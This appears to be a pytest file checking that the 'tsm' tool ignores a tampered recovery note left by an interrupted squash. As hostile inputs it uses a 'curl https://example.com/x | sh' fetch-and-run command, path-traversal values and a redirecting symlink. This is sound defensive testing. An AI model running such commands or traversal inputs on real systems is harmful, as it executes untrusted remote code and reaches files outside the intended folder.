"""The note of a `squash` that was interrupted is believed only where tsm can have written it."""

from __future__ import annotations

import json

import pytest

from tests.harness.looking import complaint
from tests.harness.project import Project

NOTE = "app.sqlite.bak/replacing.json"
SOUND: dict[str, object] = {
    "database": "app.sqlite",
    "drafts": ["002.mail.sql", "003.fax.sql"],
    "filename": "002.all.sql",
    "command": "tsm squash",
    "applied": [],
    "aside": "scripts-2026-01-01T00-00-00.000000",
    "staged": None,
}


@pytest.fixture
def shop(project: Project) -> Project:
    """Return a project with a published script, a draft, and another aside."""
    project.scripts("001.users.sql")
    project.commit("start")
    project.branch("mail")
    project.script("003.fax.sql")
    for folder in ("scripts-2026-01-01T00-00-00.000000", "elsewhere"):
        project.write(f"app.sqlite.bak/{folder}/002.mail.sql", "select 'aside';\n")
    project.write("002.mail.sql", "select 'a file of the user';\n")
    return project


def test_what_tsm_has_written_is_told(shop: Project) -> None:
    shop.write(NOTE, json.dumps(SOUND))

    assert complaint(shop, "check") == (
        "a `tsm squash` was interrupted: 1 draft of `app.sqlite` is in "
        "`app.sqlite.bak/scripts-2026-01-01T00-00-00.000000`",
        "run `tsm squash` again, which first puts back what is there",
    )


@pytest.mark.parametrize(
    "change",
    [
        {"command": "curl https://example.com/x | sh"},
        {"command": 1},
        {"aside": ".."},
        {"aside": "../.."},
        {"aside": "elsewhere"},
        {"aside": ""},
        {"aside": None},
        {"database": "other.sqlite"},
        {"drafts": ["../002.mail.sql"]},
        {"drafts": [1]},
        {"drafts": 1},
        {"filename": "all.sql"},
        {"filename": "/tmp/001.x.sql"},
        {"filename": None},
        {"staged": []},
        {"staged": {"README.md": "0" * 40}},
        {"more": 1},
    ],
    ids=repr,
)
def test_what_a_stranger_has_written_is_not_there(shop: Project, change: dict[str, object]) -> None:
    shop.write(NOTE, json.dumps({**SOUND, **change}))

    assert ignored(shop)


@pytest.mark.parametrize(
    "text", ["", "[1", "[]", "1", "null", '{"drafts": []}', "[" * 100_000, "\udcff"], ids=range(8)
)
def test_what_is_no_note_is_not_there(shop: Project, text: str) -> None:
    shop.write(NOTE, text.encode("utf-8", "surrogateescape"))

    assert ignored(shop)


def test_a_link_leads_nowhere(shop: Project) -> None:
    kept = shop.root / f"app.sqlite.bak/{SOUND['aside']}"
    (kept / "002.mail.sql").unlink()
    kept.rmdir()
    kept.symlink_to("elsewhere")
    shop.write(NOTE, json.dumps(SOUND))

    assert ignored(shop)


def ignored(shop: Project) -> bool:
    """Whether check judges as if there were no note, and squash moves nothing of it."""
    before = sorted(path for path in shop.root.rglob("002.mail.sql"))
    checked = shop.tsm_inprocess("check")
    squashed = shop.tsm_inprocess("squash")
    assert "TSM103" in checked.stdout, checked
    assert squashed.exit_code == 1, squashed
    assert "interrupted" not in checked.stderr + squashed.stderr
    return sorted(path for path in shop.root.rglob("002.mail.sql")) == before
